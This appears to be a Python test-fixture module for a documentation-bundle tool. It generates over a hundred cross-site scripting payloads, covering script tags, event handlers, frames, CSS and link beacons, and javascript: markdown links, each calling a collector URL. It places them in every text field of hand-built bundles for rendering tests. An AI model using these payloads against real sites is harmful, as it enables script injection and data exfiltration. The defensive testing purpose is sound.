"""Hostile material: payloads for every text field, and bundles that are made by hand."""

from __future__ import annotations

import json
import re
import tempfile
import types
import typing
import zipfile
from hashlib import sha256
from pathlib import Path
from typing import Any

import msgspec

from zarbek.core.material.bundle_file import write_bundle
from zarbek.core.model.bundle import FORMAT_VERSION, Dependency, Manifest
from zarbek.core.model.edition import Edition
from zarbek.core.model.finding import Finding
from zarbek.core.model.interface import (
    Example,
    Interface,
    Listed,
    Media,
    Operation,
    Particle,
    Schema,
    SecurityRequirement,
    Service,
)
from zarbek.core.model.page import Heading, Page
from zarbek.core.model.symbol import Symbol

#: What a payload does if anything runs it: ask the collector, and say so in the page.
_RUN = "window.pwned=1;fetch('{url}')"
_FRAMES = (
    '<iframe srcdoc="<script src=/api/v1/assets/{slug}/1.0/pwn.js></script>"></iframe>', '<iframe src="{url}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>', '<object data="{url}"></object>', '<embed src="{url}">',
    '<iframe src="javascript:{run}"></iframe>', '<frameset><frame src="{url}"></frameset>', '<portal src="{url}"></portal>',
    '<object type="text/html" data="/api/v1/assets/{slug}/1.0/pwn.html"></object>', '<applet code="{url}"></applet>',
    '<fencedframe src="{url}"></fencedframe>', '<iframe src="/api/v1/assets/{slug}/1.0/pwn.svg"></iframe>',
)  # fmt: skip
_SCRIPTS = (
    "<script>{run}</script>", "<script src=/api/v1/assets/{slug}/1.0/pwn.js></script>", '<script src="{url}"></script>',
    "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>", "<<script>{run}//<</script>", "<script\n>{run}</script\n>",
    '<script type="module">import "{url}"</script>', "<svg><script>{run}</script></svg>", "<math><script>{run}</script></math>",
    "</title><script>{run}</script>", "</textarea><script>{run}</script>", "</style><script>{run}</script>", "--><script>{run}</script>",
    '"><script>{run}</script>', "'><script>{run}</script>", "]]><script>{run}</script>", "</code></pre><script>{run}</script>",
    "<noscript><p title='</noscript><script>{run}</script>'>", '<template><script>{run}</script></template>',
    '<svg><style><img src=x onerror="{run}"></style></svg>', "<svg><foreignObject><script>{run}</script></foreignObject></svg>",
)  # fmt: skip
_HANDLERS = (
    '<img src=x onerror="{run}">', "<img src=x onerror={run}>", '<img src="x` `<script>{run}</script>"` `>', '<svg onload="{run}">',
    '<svg/onload={run}>', '<body onload="{run}">', '<input autofocus onfocus="{run}">', '<details open ontoggle="{run}">x</details>',
    '<video><source onerror="{run}"></video>', '<audio src=x onerror="{run}"></audio>', '<marquee onstart="{run}">x</marquee>',
    '<select autofocus onfocus="{run}"></select>', '<textarea autofocus onfocus="{run}"></textarea>', '<style onload="{run}"></style>',
    '<div style="animation:x" onanimationstart="{run}">x</div>', '<p onpointerrawupdate="{run}">x</p>', '<a href=x onfocus="{run}" autofocus>x</a>',
    '" onmouseover="{run}" x="', "' autofocus onfocus='{run}' x='", '"onload="{run}', '<img src="x"onerror="{run}">', '<img/src=x/onerror={run}>',
    '<isindex type=image src=x onerror="{run}">', '<xss id=x tabindex=1 onfocus="{run}">x</xss>', '<button popovertarget=x>x</button><p popover id=x onbeforetoggle="{run}">',
    '<img srcset=",,,,,x" onerror="{run}">', '<keygen autofocus onfocus="{run}">', '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
)  # fmt: skip
_MOVES = (
    '<meta http-equiv="refresh" content="0;url={url}">', '<meta http-equiv=refresh content="0;url=javascript:{run}">', '<base href="{url}/">',
    '<form action="{url}"><button autofocus>x</button></form><script>document.forms[0].submit()</script>', '<link rel=stylesheet href="{url}">',
    '<link rel="prefetch" href="{url}">', '<link rel=preload as=script href="{url}">', '<link rel="dns-prefetch" href="{url}">',
    '<link rel=modulepreload href="{url}">', '<link rel="manifest" href="{url}">', '<link rel=icon href="{url}">', '<a ping="{url}" href="{url}">x</a>',
    "<style>@import '{url}';</style>", "<style>body{{background:url({url})}}</style>", '<p style="background:url({url})">x</p>',
    '<table background="{url}"><tr><td>x</td></tr></table>', '<img src="{url}">', '<img srcset="{url} 2x">', '<video poster="{url}"></video>',
    '<audio src="{url}" autoplay></audio>', '<picture><source srcset="{url}"><img></picture>', '<svg><image href="{url}"/></svg>',
    '<svg><use href="{url}#x"/></svg>', '<input type=image src="{url}">', '<track src="{url}">', '<math href="javascript:{run}">x</math>',
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{run})", "![x](javascript:{run})", "![x]({url})", "[x](data:text/html,<script>{run}</script>)", "<javascript:{run}>",
    "[x](JaVaScRiPt:{run})", "[x](&#106;avascript:{run})", "[x](java\nscript:{run})", '[x]({url} "onload={run}")', "[x][y]\n\n[y]: javascript:{run}",
    "`<img src=x onerror={run}>`", "```html\n<script>{run}</script>\n```", "| a |\n| - |\n| <script>{run}</script> |", "[^1]\n\n[^1]: <script>{run}</script>",
    "![x](/api/v1/session)", "[x](//127.0.0.1)", "[<img src=x onerror={run}>](api:x)", "# <script>{run}</script>",
)  # fmt: skip
_TEMPLATES = (*_FRAMES, *_SCRIPTS, *_HANDLERS, *_MOVES, *_MARKDOWN)


def payloads(slug: str, collector: str) -> list[str]:
    """At least a hundred texts, each of which tells the collector if it is more than text."""
    made = []
    for number, template in enumerate(_TEMPLATES):
        url = f"{collector}/pwned-{number}"
        run = _RUN.replace("{url}", url)
        made.append(
            template.replace("{run}", run)
            .replace("{url}", url)
            .replace("{slug}", slug)
            .replace("{{", "{")
            .replace("}}", "}")
        )
    return made


#: Fields that say where something is, and so stay as they must be; all others take the payload.
_KEPT = {
    "path", "kind", "language", "module", "parent", "visibility", "origin", "status", "method", "place", "type_", "ref",
    "target", "format", "severity", "subject_kind", "fingerprint", "style", "media_type", "address", "frame",
}  # fmt: skip


def filled(struct: type, text: str, /, **kept: Any) -> Any:
    """A struct with the text in every field that takes one, however deep."""
    values = {}
    for f in msgspec.structs.fields(struct):
        if f.name in kept:
            values[f.name] = kept[f.name]
        elif f.name not in _KEPT or f.required:
            values[f.name] = _value(f.type, text)
    return struct(**values)


def _value(kind: Any, text: str) -> Any:
    origin, arguments = typing.get_origin(kind), typing.get_args(kind)
    if origin is typing.Annotated:
        most, pattern = getattr(arguments[1], "max_length", None), getattr(arguments[1], "pattern", None)
        if pattern and not re.search(pattern, text):
            return "0"  # What must have a form is refused where it has none: tests of the form say so.
        return _value(arguments[0], text[:most] if most else text)
    if origin in (typing.Union, types.UnionType):
        return _value(next(a for a in arguments if a is not type(None)), text)
    if origin is typing.Literal:
        return arguments[0]
    if origin is list:
        return [_value(arguments[0], text)]
    if origin is dict:
        return {text[:200]: _value(arguments[1], text)}
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
        return _STRUCTS[kind](text) if kind in _STRUCTS else filled(kind, text)
    return {str: text, int: 1, bool: True, Any: text}.get(kind, text)


def _schema(text: str) -> Schema:
    return {"type": "object", "title": text, "description": text, "required": [text], "properties": {
        text[:200]: {"type": "string", "description": text, "enum": [text], "examples": [text], "default": text, "pattern": text}},
        "examples": [{text: text}]}  # fmt: skip


#: Structs of which something must stay so that their page is drawn at all.
_STRUCTS: dict[type, Any] = {
    Particle: lambda text: Particle("sequence", text, parts=[Particle("element", text, type=text)]),
    Listed: lambda text: Listed("m.operation", f"GET {text}", text),
    Media: lambda text: Media("application/json", _schema(text), [Example(json.dumps(text), text, text)], text),
    SecurityRequirement: lambda text: SecurityRequirement(text, [text]),
    Operation: lambda text: filled(Operation, text, method="GET", incoming=False),
}


def _interface(kind: str, text: str) -> Interface | None:
    """What an element of that kind has of an interface."""
    slot = filled(
        next(f.type for f in msgspec.structs.fields(Interface) if f.name == "slot").__args__[0],
        text,
        place="query",
        schema=_schema(text),
    )
    answer = filled(
        next(f.type for f in msgspec.structs.fields(Interface) if f.name == "answer").__args__[0], text, status="200"
    )
    common = {"examples": [Example(text, text, text)], "evidence": text, "source": f"<x>{text}</x>"}
    return {
        "operation": Interface(operation=_STRUCTS[Operation](text), **common),
        "api": Interface(service=filled(Service, text, operations=[Listed("m.operation", f"GET {text}", text)]), **common),
        "schema": Interface(schema=_schema(text), **common), "parameter": Interface(slot=slot, schema=_schema(text), **common),
        "response": Interface(answer=answer, **common), "message": Interface(answer=answer, **common),
        "element": Interface(content=_STRUCTS[Particle](text), schema=_schema(text), **common),
        "complex type": Interface(content=_STRUCTS[Particle](text), schema=_schema(text), **common),
    }.get(kind)  # fmt: skip


#: Kind of symbol to a language that has it.
KINDS = {
    "module": "python", "class": "python", "function": "python", "method": "python", "constant": "python", "api": "openapi",
    "operation": "openapi", "schema": "openapi", "message": "asyncapi", "parameter": "openapi", "response": "openapi",
    "element": "xsd", "complex type": "xsd", "simple type": "xsd", "namespace": "cpp", "struct": "cpp", "macro": "c",
    "interface": "java", "enum": "java", "record": "java", "trait": "rust", "union": "rust", "field": "graphql",
    "property": "csharp", "event": "csharp", "delegate": "csharp", "object": "kotlin", "type": "typescript", "variable": "go",
}  # fmt: skip


def hostile_symbols(texts: list[str]) -> list[Symbol]:
    """One symbol of every kind, each text field of which holds all texts."""
    text = "\n\n".join(texts)
    made = [
        filled(
            Symbol,
            text,
            path="m",
            name="m",
            kind="module",
            language="python",
            module="m",
            mentions=[],
            interface=None,
            body="",
        )
    ]
    for number, (kind, language) in enumerate(KINDS.items()):
        if kind == "module":
            continue
        name = texts[number % len(texts)][:150]
        made.append(filled(
            Symbol, text, path=f"m.{kind.replace(' ', '_')}", name=name, kind=kind, language=language, module="m", parent="m",
            mentions=[], interface=_interface(kind, text), body="", line=number + 1, end_line=number + 2,
        ))  # fmt: skip
    return sorted(made, key=lambda s: s.path)


def hostile_page(texts: list[str]) -> Page:
    text = "\n\n".join(texts)
    return filled(Page, text, path="index", file="docs/index.md", title=texts[0], order=0, depth=0, mentions=[],
                  headings=[Heading(1, texts[1], "a")])  # fmt: skip


ASSETS = {
    "pwn.js": b"window.pwned = 1", "pwn.html": b"<script>window.pwned = 1</script>", "pwn.css": b"body{display:none}",
    "pwn.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned = 1</script></svg>', "pwn.wasm": b"\0asm", "pwn.mjs": b"export {}",
    "pwn.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "pwn.png": b"<script>window.pwned = 1</script>",
}  # fmt: skip


def hostile_bundle(folder: Path, slug: str, version: str, texts: list[str]) -> Path:
    """A bundle whose every text is hostile, in the place of what gathering makes."""
    encode = msgspec.json.encode
    text = "\n".join(texts)
    manifest = filled(
        Manifest, text, format=FORMAT_VERSION, project=slug, version=version, title=texts[2][:180], owner=texts[3][:180], purl="",
        namespaces=["m"], provides={"python": ["m"]}, dependencies=[Dependency("pkg:pypi/x", texts[0][:100])], options={}, counts={},
        digests={}, editions={texts[0][:100]: Edition(title=texts[1][:180])}, languages=["python"], supported=[], owners={"*": texts[4][:180]}, commit="", outside={},
    )  # fmt: skip
    finding = filled(
        Finding,
        text,
        rule="dangling/symbol",
        severity="error",
        subject="m",
        subject_kind="symbol",
        file="m.py",
        certain=False,
    )
    path = folder / f"{slug}-{version}.bundle"
    write_bundle(path, manifest, {
        "symbols.jsonl": [encode(s) for s in hostile_symbols(texts)], "pages.jsonl": [encode(hostile_page(texts))],
        "findings.jsonl": [encode(finding)],
    }, ASSETS, ASSETS.__getitem__)  # fmt: skip
    return path


def write_members(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED, **manifest: Any) -> Path:
    """A bundle of given members as a file that the caller removes; its manifest has the digests."""
    said = {"format": FORMAT_VERSION, "project": "p", "version": "1",
            "digests": {name: sha256(data).hexdigest() for name, data in members.items()}, **manifest}  # fmt: skip
    path = Path(tempfile.mkstemp(suffix=".bundle")[1])
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("manifest.json", json.dumps(said))
        for name, data in members.items():
            archive.writestr(name, data)
    return path
